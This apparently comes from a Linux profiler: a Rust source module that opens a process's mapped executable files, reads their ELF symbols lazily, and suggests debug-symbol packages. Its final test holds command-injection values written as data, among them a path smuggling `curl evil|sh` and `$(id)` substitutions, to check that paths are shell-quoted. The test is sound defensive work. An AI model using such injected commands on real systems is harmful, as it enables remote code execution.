//! One mapped file of the target: where it is mapped, how to open it, and (lazily) its symbols and code.

use super::elf::ElfInfo;
use super::error::InspectError;
use super::maps::{Backing, Mapping};
use super::sequences;
use super::symbols::{SymbolSource, Symbols};
use super::text::TextIndex;
use crate::target_file::{OpenError, Root, TargetFile};
use profiler_core::text::shell_word;
use std::ops::Range;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};
use std::sync::{Arc, OnceLock};

/// More of `/etc/os-release` is not read.
const MAX_RELEASE_BYTES: u64 = 64 << 10;

/// A file with executable mappings in the target.
#[derive(Debug, Clone)]
pub struct Module {
    /// File name, as used in `module:function` patterns.
    pub name: String,
    /// The path as the target sees it.
    pub path: PathBuf,
    /// A path that leads to the mapped file through our open descriptor, for attaching uprobes; good while the module, or
    /// a clone of it, is kept. Where the file cannot be opened, its path.
    pub attach_path: PathBuf,
    /// The file's last name is gone or names another file now.
    pub replaced: bool,
    /// The main program.
    pub main: bool,
    /// Its executable mappings, by address.
    pub mappings: Vec<Mapping>,
    device: (u32, u32),
    inode: u64,
    code: Arc<Code>,
    root: Option<Arc<Root>>,
}

/// What is read from the file, once: shared by all clones of a module, so that another thread can read it ahead.
#[derive(Debug)]
struct Code {
    file: Result<Arc<TargetFile>, String>,
    elf: OnceLock<Result<Arc<ElfInfo>, String>>,
    symbols: OnceLock<Result<Symbols, String>>,
    text: OnceLock<Result<TextIndex, String>>,
    sequences: OnceLock<Result<Vec<Range<u64>>, String>>,
}

impl Code {
    fn of(file: Result<Arc<TargetFile>, String>) -> Arc<Self> {
        Arc::new(Self {
            file,
            elf: OnceLock::new(),
            symbols: OnceLock::new(),
            text: OnceLock::new(),
            sequences: OnceLock::new(),
        })
    }
}

/// The executable file mappings of a process, those of one file together.
pub(super) fn by_file(maps: &[Mapping]) -> Vec<Vec<Mapping>> {
    let mut files: Vec<Vec<Mapping>> = Vec::new();
    for map in maps.iter().filter(|m| m.exec && matches!(m.backing, Backing::File { .. })) {
        let same = |f: &&mut Vec<Mapping>| {
            f[0].inode == map.inode && f[0].device == map.device && path_of(&f[0]) == path_of(map)
        };
        match files.iter_mut().find(same) {
            Some(file) => file.push(map.clone()),
            None => files.push(vec![map.clone()]),
        }
    }
    files
}

fn path_of(map: &Mapping) -> &Path {
    match &map.backing {
        Backing::File { path, .. } => path,
        _ => Path::new(""),
    }
}

impl Module {
    /// The modules of a process, the main program first. Their files are opened, and read when something asks.
    #[must_use]
    pub(super) fn all(pid: i32, maps: &[Mapping]) -> Vec<Self> {
        let mut modules = Self::of_files(pid, by_file(maps));
        modules.sort_by_key(|m| !m.main);
        modules
    }

    /// The modules of some mapped files.
    #[must_use]
    pub(super) fn of_files(pid: i32, files: Vec<Vec<Mapping>>) -> Vec<Self> {
        let exe = std::fs::metadata(format!("/proc/{pid}/exe")).ok().map(|m| (m.dev(), m.ino()));
        let root = Root::of(pid.cast_unsigned()).ok().map(Arc::new);
        files
            .into_iter()
            .map(|mappings| Self::new(pid.cast_unsigned(), root.as_ref(), exe, mappings))
            .collect()
    }

    fn new(pid: u32, root: Option<&Arc<Root>>, exe: Option<(u64, u64)>, mappings: Vec<Mapping>) -> Self {
        let map = &mappings[0];
        let path = path_of(map).to_owned();
        let opened = open(pid, root.map(Arc::as_ref), map);
        let identity = opened.as_ref().ok().map(TargetFile::identity);
        let by_name = root.and_then(|root| root.identity(&path));
        let file = opened.map(Arc::new).map_err(|e| e.to_string());
        Self {
            name: path.file_name().map_or_else(String::new, |n| n.to_string_lossy().into_owned()),
            attach_path: file.as_ref().map_or_else(|_| path.clone(), |f| f.path()),
            replaced: identity.is_some() && by_name != identity,
            main: exe.is_some() && exe == identity,
            device: map.device,
            inode: map.inode,
            path,
            code: Code::of(file),
            root: root.map(Arc::clone),
            mappings,
        }
    }

    /// A module that is no part of a process: a file on disk, for offline analysis and tests.
    ///
    /// # Errors
    /// The file is not a usable ELF file.
    pub fn offline(path: &Path) -> Result<Self, InspectError> {
        let elf = ElfInfo::open(path)?;
        let code = Code::of(Ok(Arc::clone(&elf.file)));
        let module = Self {
            name: path.file_name().map_or_else(String::new, |n| n.to_string_lossy().into_owned()),
            path: path.to_owned(),
            attach_path: elf.file.path(),
            replaced: false,
            main: true,
            mappings: Vec::new(),
            device: (0, 0),
            inode: 0,
            code,
            root: None,
        };
        let _ = module.code.elf.set(Ok(Arc::new(elf)));
        Ok(module)
    }

    /// The ELF headers; read at the first call.
    ///
    /// # Errors
    /// The file cannot be read as ELF (the text says why; kept for later calls).
    pub fn elf(&self) -> Result<&Arc<ElfInfo>, &str> {
        self.code
            .elf
            .get_or_init(|| {
                let file = Arc::clone(self.code.file.as_ref().map_err(Clone::clone)?);
                ElfInfo::read(file).map(Arc::new).map_err(|e| e.to_string())
            })
            .as_ref()
            .map_err(String::as_str)
    }

    /// The function symbols; read at the first call.
    ///
    /// # Errors
    /// The file or its symbol tables cannot be read.
    pub fn symbols(&self) -> Result<&Symbols, &str> {
        self.code
            .symbols
            .get_or_init(|| {
                let elf = self.elf().map_err(str::to_owned)?;
                let debug = if elf.symtab.is_some() { None } else { self.debug_file(elf) };
                Symbols::read(elf, debug.as_ref()).map_err(|e| format!("{}: {e}", self.path.display()))
            })
            .as_ref()
            .map_err(String::as_str)
    }

    /// The index of possible entry addresses; the code is scanned at the first call.
    ///
    /// # Errors
    /// The file cannot be read, or has too much code.
    pub fn text(&self) -> Result<&TextIndex, &str> {
        self.code
            .text
            .get_or_init(|| {
                let elf = self.elf().map_err(str::to_owned)?;
                TextIndex::scan(elf).map_err(|e| e.to_string())
            })
            .as_ref()
            .map_err(String::as_str)
    }

    /// The addresses of its restartable sequences; read at the first call.
    ///
    /// # Errors
    /// Where they are cannot be told ([`sequences::of`]).
    pub(super) fn sequences(&self) -> Result<&[Range<u64>], &str> {
        self.code
            .sequences
            .get_or_init(|| sequences::of(self.elf().map_err(str::to_owned)?))
            .as_deref()
            .map_err(String::as_str)
    }

    /// Whether [`Module::symbols`] answers at once.
    #[must_use]
    pub fn has_symbols(&self) -> bool {
        self.code.symbols.get().is_some()
    }

    /// Whether [`Module::text`] answers at once.
    #[must_use]
    pub fn has_text(&self) -> bool {
        self.code.text.get().is_some()
    }

    /// Clones of one module.
    #[must_use]
    pub fn shares_code(&self, other: &Self) -> bool {
        Arc::ptr_eq(&self.code, &other.code)
    }

    /// The build id in hexadecimal.
    #[must_use]
    pub fn build_id(&self) -> Option<String> {
        self.elf().ok()?.debug.build_id_text()
    }

    /// Why some functions may have no names here, and what to install; `None` where all symbols are there.
    #[must_use]
    pub fn symbols_missing(&self) -> Option<String> {
        let source = self.symbols().ok()?.source;
        let left = match source {
            SymbolSource::Full | SymbolSource::DebugFile => return None,
            SymbolSource::ExportsOnly => "is stripped: only the functions that it exports have names",
            SymbolSource::None => "is stripped: none of its functions has a name",
        };
        Some(format!("{} {left}; {}", self.name, self.remedy()))
    }

    /// Which package holds the symbols: the usual names of the distribution, by `/etc/os-release` of the target.
    fn remedy(&self) -> String {
        let read = |root: &Root| {
            let file = root.open(Path::new("/etc/os-release")).ok()?;
            Some(String::from_utf8_lossy(&file.read_all(MAX_RELEASE_BYTES).ok()?).into_owned())
        };
        let release = self.root.as_deref().and_then(read);
        let release = release.or_else(|| read(&Root::own().ok()?)).unwrap_or_default();
        package_of_symbols(&release, &self.name, &self.path)
    }

    /// The separate debug file: by build id, else by `.gnu_debuglink`, in the target's root and in ours.
    fn debug_file(&self, elf: &ElfInfo) -> Option<ElfInfo> {
        elf.debug.find(&self.path, self.root.as_deref(), |file| {
            ElfInfo::read(Arc::new(file)).ok().filter(|debug| debug.debug.build_id == elf.debug.build_id)
        })
    }

    /// Run-time address of a file offset, if mapped executable.
    #[must_use]
    pub fn address_of_offset(&self, offset: u64) -> Option<u64> {
        self.mappings
            .iter()
            .find(|m| (m.offset..m.offset + (m.end - m.start)).contains(&offset))
            .map(|m| offset - m.offset + m.start)
    }

    /// Link-time address of a run-time address in one of its executable mappings.
    #[must_use]
    pub fn vaddr_of_address(&self, address: u64) -> Option<u64> {
        let map = self.mappings.iter().find(|m| m.contains(address))?;
        self.elf().ok()?.vaddr_of(address - map.start + map.offset)
    }

    /// Whether the module is the file of this mapping.
    #[must_use]
    pub(super) fn is_mapped_by(&self, map: &Mapping) -> bool {
        self.inode == map.inode && self.device == map.device && self.path == path_of(map)
    }
}

/// What to install, by the text of an `os-release`. A path that no command can hold is not put into one.
fn package_of_symbols(release: &str, name: &str, path: &Path) -> String {
    let is = |id: &str| release.lines().any(|l| l.starts_with("ID") && l.contains(id));
    let path = path.to_str().and_then(shell_word);
    if is("debian") || is("ubuntu") {
        if name.starts_with("libc.so") || name.starts_with("ld-linux") {
            return "install its symbols: `sudo apt install libc6-dbg`".to_owned();
        }
        if let Some(path) = path {
            return format!(
                "install the -dbgsym (or -dbg) package of what `dpkg -S {path}` names, or use an unstripped build"
            );
        }
    } else if (is("fedora") || is("rhel") || is("centos"))
        && let Some(path) = path
    {
        return format!("install its symbols: `sudo dnf debuginfo-install {path}`");
    }
    "install its debug package, or use an unstripped build".to_owned()
}

/// Opens the file of a mapping: by the mapping, or, without the capability for that, by its name and inode.
fn open(pid: u32, root: Option<&Root>, map: &Mapping) -> Result<TargetFile, OpenError> {
    let path = path_of(map);
    let by_map = TargetFile::mapped(pid, &map.map_files_name(), path);
    let (Err(OpenError::System { .. }), Some(root)) = (&by_map, root) else { return by_map };
    let file = root.open(path)?;
    let (device, inode) = file.identity();
    let (major, minor) = map.device;
    let same_device = (libc::major(device), libc::minor(device)) == (major, minor);
    // Of file systems without a device of their own (major 0: btrfs, overlayfs) stat and the mapping tell two numbers.
    if inode == map.inode && (same_device || major == 0) {
        Ok(file)
    } else {
        Err(OpenError::Replaced { path: path.to_owned() })
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_path_is_no_command() {
        let remedy = |release, path| package_of_symbols(release, "x", Path::new(path));
        let (debian, fedora) = ("NAME=x\nID=debian\n", "ID=fedora\n");
        assert!(remedy(debian, "/opt/x").contains("`dpkg -S /opt/x`"));
        assert!(remedy(debian, "/opt/x;curl evil|sh").contains("`dpkg -S '/opt/x;curl evil|sh'`"));
        assert!(remedy(fedora, "/o'$(id)").ends_with(r"debuginfo-install '/o'\''$(id)'`"));
        for release in [debian, fedora] {
            for path in ["/opt/x`id`", "/opt/\x1bx", "/opt/\u{202e}x"] {
                assert_eq!(remedy(release, path), "install its debug package, or use an unstripped build");
            }
        }
    }
}
